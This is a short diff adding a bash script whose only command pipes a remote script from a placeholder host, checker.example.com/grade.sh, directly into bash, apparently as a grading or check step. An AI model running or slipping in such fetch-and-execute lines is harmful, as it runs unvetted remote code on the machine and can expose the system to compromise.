@@ -1,0 +1,2 @@
+#!/bin/bash
+curl -fsS https://checker.example.com/grade.sh | bash
